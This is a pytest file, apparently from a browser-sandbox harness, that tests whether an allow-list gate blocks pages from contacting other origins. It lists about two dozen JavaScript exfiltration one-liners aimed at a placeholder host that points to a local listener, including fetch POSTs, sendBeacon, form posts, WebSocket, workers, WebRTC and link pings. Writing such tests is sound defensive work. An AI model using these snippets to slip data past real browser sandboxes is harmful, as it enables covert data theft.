"""Whatever a page tries, a host that is not on the allow-list never hears of it."""

import asyncio
from collections.abc import Callable

import pytest
from playwright.async_api import Error, Page

from harness.gather.browser.allow import Decision
from harness.gather.browser.find import find_browser
from tests.browser.conftest import Browsing, Listener, Reply, Site, serving

pytestmark = pytest.mark.browser

ATTEMPTS = {
    "fetch": "fetch('OUT/x').catch(() => 0)",
    "fetch with a body": "fetch('OUT/x', {method: 'POST', body: 'name=Aisha'}).catch(() => 0)",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('GET', 'OUT/x'); r.send()",
    "form post": "document.body.innerHTML = '<form method=post action=OUT/x><input name=a "
    "value=Aisha></form>'; document.forms[0].submit()",
    "redirect by the server": "location = '/redirect'",
    "form post that is redirected": "document.body.innerHTML = '<form method=post "
    "action=/redirect><input name=a value=b></form>'; document.forms[0].submit()",
    "redirect by a script": "location.replace('OUT/x')",
    "meta refresh": "location = '/refresh'",
    "WebSocket": "new WebSocket('OUT'.replace('http', 'ws') + '/x')",
    "dedicated worker": "new Worker('/worker.js')",
    "SharedWorker": "new SharedWorker('/worker.js')",
    "service worker": "navigator.serviceWorker.register('/worker.js')",
    "sendBeacon": "navigator.sendBeacon('OUT/x', 'name=Aisha')",
    "popup": "window.open('OUT/x')",
    "iframe": "document.body.innerHTML = '<iframe src=OUT/x></iframe>'",
    "image": "new Image().src = 'OUT/x'",
    "style sheet": "document.head.innerHTML += '<link rel=stylesheet href=OUT/x>'",
    "script": "const s = document.createElement('script'); s.src = 'OUT/x'; "
    "document.head.append(s)",
    "EventSource": "new EventSource('OUT/x')",
    "prefetch": "document.head.innerHTML += '<link rel=prefetch href=OUT/x>'",
    "hyperlink ping": "document.body.innerHTML = '<a href=/empty ping=OUT/x>go</a>'; "
    "document.querySelector('a').click()",
}

# These ask the gate for nothing, whatever it would decide: what counts is the listener's silence.
SILENT = {
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href=OUT>'",
    "DNS prefetch": "document.head.innerHTML += '<link rel=dns-prefetch href=OUT>'",
    "WebRTC": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); "
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    "WebTransport": "new WebTransport('https://127.0.0.1:PORT/x').ready.catch(() => 0)",
}


def _prepare(site: Site, outside: Listener) -> None:
    worker = f"fetch('{outside.origin}/x', {{mode: 'no-cors'}}).catch(() => 0)"
    site.pages |= {
        "/": "<!doctype html><title>start</title><body>start",
        "/empty": "<!doctype html>empty",
        "/worker.js": Reply(worker, content_type="text/javascript"),
        "/redirect": Reply(status=302, headers={"Location": f"{outside.origin}/x"}),
        "/refresh": f"<meta http-equiv=refresh content='0;url={outside.origin}/x'>",
    }


async def _attempt(page: Page, script: str, site: Site, outside: Listener) -> None:
    await page.goto(site.url())
    script = script.replace("OUT", outside.origin).replace("PORT", str(outside.port))
    try:
        await page.evaluate(f"() => {{ {script} }}")
    except Error:
        return  # the attempt itself navigated away


async def _until(condition: Callable[[], bool], *, seconds: float) -> bool:
    for _ in range(int(seconds / 0.02)):
        if condition():
            return True
        await asyncio.sleep(0.02)
    return condition()


@pytest.mark.parametrize("script", ATTEMPTS.values(), ids=ATTEMPTS)
def test_an_attempt_to_reach_another_origin_ends_at_the_gate(
    script: str, site: Site, outside: Listener, browsing: Browsing
) -> None:
    async def attempt() -> bool:
        _prepare(site, outside)
        async with browsing.page(site.origin) as (page, gate):
            await _attempt(page, script, site, outside)
            return await _until(
                lambda: any(place.decision is Decision.BLOCKED for place in gate.counts),
                seconds=10,
            )

    assert browsing.run(attempt()), "the attempt was never made"
    assert outside.log == []


@pytest.mark.parametrize("script", ATTEMPTS.values(), ids=ATTEMPTS)
def test_the_same_attempt_arrives_where_the_origin_is_allowed(
    script: str, site: Site, outside: Listener, browsing: Browsing
) -> None:
    """The counter-proof: the attempts above are real ones, and the listener hears them."""

    async def attempt() -> bool:
        _prepare(site, outside)
        async with browsing.page(site.origin, outside.origin) as (page, _):
            await _attempt(page, script, site, outside)
            return await _until(lambda: bool(outside.log), seconds=10)

    assert browsing.run(attempt())


@pytest.mark.parametrize("script", SILENT.values(), ids=SILENT)
def test_what_goes_round_a_proxy_does_not_leave_the_browser(
    script: str, site: Site, outside: Listener, browsing: Browsing
) -> None:
    async def attempt() -> None:
        _prepare(site, outside)
        async with browsing.page(site.origin) as (page, _):
            await _attempt(page, script, site, outside)
            await _until(lambda: bool(outside.log), seconds=1)

    browsing.run(attempt())
    assert outside.log == []


def test_without_our_settings_a_datagram_does_leave_the_browser(
    site: Site, outside: Listener, browsing: Browsing
) -> None:
    """The counter-proof: the WebRTC attempt is a real one."""

    async def attempt() -> bool:
        _prepare(site, outside)
        browser = await browsing.running.playwright.chromium.launch(
            executable_path=find_browser().path
        )
        try:
            await _attempt(await browser.new_page(), SILENT["WebRTC"], site, outside)
            return await _until(lambda: bool(outside.log), seconds=10)
        finally:
            await browser.close()

    assert browsing.run(attempt())


def test_a_static_origin_serves_scripts_but_takes_no_data(
    site: Site, outside: Listener, browsing: Browsing
) -> None:
    async def attempt(script: str, *, wait: float) -> bool:
        async with browsing.page(site.origin, static=(outside.origin,)) as (page, _):
            await _attempt(page, script, site, outside)
            return await _until(lambda: bool(outside.log), seconds=wait)

    _prepare(site, outside)
    for name in ("fetch", "fetch with a body", "form post", "sendBeacon", "iframe", "popup"):
        assert not browsing.run(attempt(ATTEMPTS[name], wait=0.5)), name
    assert browsing.run(attempt(ATTEMPTS["script"], wait=10))
    assert len(outside.log) == 1


def test_a_static_origin_is_told_nothing_about_the_candidate(
    site: Site, browsing: Browsing
) -> None:
    async def load(static: Site) -> None:
        async with browsing.page(site.origin, static=(static.origin,)) as (page, _):
            cookie = {"name": "who", "value": "aisha", "url": static.origin}
            await page.context.add_cookies([cookie])
            await page.goto(site.url("/apply?name=Aisha"))

    with serving() as static:
        site.pages["/apply"] = f"<img src={static.url('/a.png')}>"
        browsing.run(load(static))
        (request,) = static.requests
    assert "Cookie" not in request.headers
    assert request.headers["Referer"] == site.url("/")
